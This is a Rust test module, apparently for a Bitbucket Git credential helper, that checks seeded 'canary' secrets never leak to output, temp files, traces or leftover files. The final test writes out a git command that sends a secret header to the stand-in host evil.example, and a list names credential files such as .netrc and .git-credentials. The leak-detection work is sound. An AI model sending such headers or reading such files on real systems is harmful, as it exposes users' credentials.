//! Every secret of a story is recognisable: it holds `canary`, as all that the sandbox seeds and grants do. After each run and
//! at the end of each desk the places are searched where none may ever stand, so that no story has to remember it.

use super::{Desk, Done, HELPER};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The word as it is, and what it becomes in base64 wherever it begins.
const WORDS: [&[u8]; 4] = [b"canary", b"Y2FuYXJ5", b"NhbmFye", b"jYW5hcn"];

/// Our commands whose output is a secret by nature, or somebody else's.
const GIVERS: [&str; 3] = ["get", "token", "exec"];

/// What stories put into a home for us to find, besides programs; and what is the file storage itself.
const PLANTED: [&str; 10] = [
    "records",
    ".netrc",
    ".git-credentials",
    "credentials",
    ".gcm",
    ".password-store",
    "secret",
    "secrets",
    "token",
    ".gitconfig",
];

/// Whether a text that anybody may read holds a secret.
pub fn tells_a_secret(text: &str) -> bool {
    is_in(text.as_bytes())
}

fn is_in(text: &[u8]) -> bool {
    WORDS.iter().any(|word| text.windows(word.len()).any(|part| part == *word))
}

/// No run tells a secret on stderr, and none of ours on stdout unless that is what it was asked for.
#[track_caller]
pub fn none_told(command: &Command, done: &Done) {
    assert!(!tells_a_secret(&done.err), "a secret on stderr of {:?}: {}", words(command), done.err);
    let is = |wanted: &[&str]| words(command).iter().any(|word| wanted.contains(&word.as_str()));
    let may_tell = !is(&[HELPER]) || is(&GIVERS);
    assert!(may_tell || !is_in(&done.bytes), "a secret on stdout of {:?}: {}", words(command), done.out);
}

fn words(command: &Command) -> Vec<String> {
    command.get_args().map(|word| word.to_string_lossy().into_owned()).collect()
}

/// No file holds a secret but those that are there to hold it: not the list of accounts, not a lock, not a clone, not a trace, and
/// nothing that was left behind.
pub fn none_kept(desk: &Desk) {
    let found: Vec<_> =
        [desk.home(), desk.notes.path()].into_iter().flat_map(files).filter(|file| holds(file)).collect();
    assert!(found.is_empty(), "a secret in {found:#?}");
}

fn holds(file: &Path) -> bool {
    tells_a_secret(&file.to_string_lossy()) || fs::read(file).is_ok_and(|content| is_in(&content))
}

/// Plain files below a folder; pipes, sockets and links are none.
fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).into_iter().flatten().flatten();
    let ours = entries.filter(|entry| !PLANTED.iter().any(|name| entry.file_name() == *name));
    ours.flat_map(|entry| match entry.file_type() {
        Ok(kind) if kind.is_dir() => files(&entry.path()),
        Ok(kind) if kind.is_file() && !is_program(&entry) => vec![entry.path()],
        _ => Vec::new(),
    })
    .collect()
}

fn is_program(entry: &fs::DirEntry) -> bool {
    entry.metadata().is_ok_and(|found| found.permissions().mode() & 0o100 != 0)
}

#[test]
fn a_canary_is_found_in_every_form() {
    for text in ["xxcanaryxx", "Basic YWxpY2U6Y2FuYXJ5LXg=", "Y2FuYXJ5", "YWNhbmFyeQ", "YWFjYW5hcnk"] {
        assert!(tells_a_secret(text), "{text}");
    }
    assert!(!tells_a_secret("canar y canarie"));
}

/// Whether a story ends badly.
fn fails(story: impl FnOnce()) -> bool {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(story)).is_err()
}

#[test]
fn a_story_that_lets_a_secret_out_fails() {
    assert!(!fails(|| drop(Desk::alone().shell("echo well >&2"))));
    assert!(fails(|| drop(Desk::alone().shell("echo canary >&2"))));
    assert!(fails(|| drop(Desk::alone().shell("echo canary >\"$TMPDIR/left\""))));
    assert!(fails(|| drop(Desk::alone().shell("mkdir -p .local; echo canary >.local/accounts.json"))));
    assert!(fails(|| drop(Desk::alone().shell("echo canary >\"$GIT_TRACE_BITBUCKET\""))));
    let tells = |host: &str| {
        let sandbox = bitbucket_sandbox::Sandbox::start();
        Desk::bare(&sandbox).git(&[
            "-c",
            "http.extraHeader=X-Key: canary",
            "ls-remote",
            &format!("https://{host}/a/b"),
        ]);
    };
    assert!(fails(|| tells("evil.example")) && !fails(|| tells("bitbucket.org")));
}
